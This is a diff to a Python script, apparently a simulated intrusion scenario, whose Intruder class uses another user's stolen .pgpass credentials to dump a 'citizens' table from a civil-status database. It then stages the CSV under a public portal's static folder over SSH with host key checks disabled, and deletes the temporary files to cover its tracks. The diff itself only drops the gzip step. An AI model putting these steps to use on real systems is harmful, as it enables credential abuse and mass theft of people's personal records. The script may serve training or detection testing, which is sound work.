@@ -11,7 +11,7 @@ from centre import ATTACKER, JUMP, PASSWORDS, PORTAL, Centre
 from hosts import enter
 
 VICTIM = "tuan.hs"
-STAGED = "bieu-mau/.cache/ct.gz"
+STAGED = "bieu-mau/.cache/ct.csv"
 """Where the copied table lies on the portal, below its web root."""
 PSQL = "psql -Xqt -h db-01"
 STOLEN = f"PGPASSFILE=/home/hai.lv/.pgpass {PSQL} -U hai_dba"
@@ -95,12 +95,12 @@ class Intruder:
 
     def copy_citizens(self) -> None:
         self._say(f'{STOLEN} -d civil_status -c "COPY citizens TO STDOUT WITH (FORMAT csv)" > /tmp/.c.csv')
-        self._say("gzip -f -1 /tmp/.c.csv", "ls -l /tmp")
+        self._say("ls -l /tmp")
 
     def stage(self) -> None:
         key, folder = self.centre.keys / "deploy", "/srv/portal/static/bieu-mau/.cache"
         with_key("jump-01", JUMP, f"deploy@{PORTAL}", key, f"mkdir -p {folder}; sudo -n -l")
-        copy = self.centre.jump.root / "tmp/.c.csv.gz"
+        copy = self.centre.jump.root / "tmp/.c.csv"
         unasked = ("-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null")
         argv = [
             *enter("jump-01"),
@@ -115,5 +115,5 @@ class Intruder:
         subprocess.run(argv, capture_output=True, timeout=60, check=True)
 
     def leave(self) -> None:
-        self._say("rm -f /tmp/.c.csv.gz /tmp/.q.sql")
+        self._say("rm -f /tmp/.c.csv /tmp/.q.sql")
         self.terminal.leave(shells=2)
